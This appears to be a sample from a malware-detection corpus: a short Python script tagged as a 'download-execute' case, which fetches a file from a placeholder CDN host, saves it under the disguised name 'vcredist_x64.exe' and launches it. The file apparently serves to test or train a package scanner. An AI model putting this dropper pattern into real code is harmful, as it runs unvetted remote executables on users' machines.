# pkgguard corpus 246 (download-execute), modelled on [empirical]; inert, never run.
import os
import tempfile

import requests

exe = os.path.join(tempfile.gettempdir(), "vcredist_x64.exe")
with requests.get("https://cdn.example/vc/latest", stream=True, timeout=30) as r:
    with open(exe, "wb") as f:
        for chunk in r.iter_content(8192):
            f.write(chunk)
os.startfile(exe)
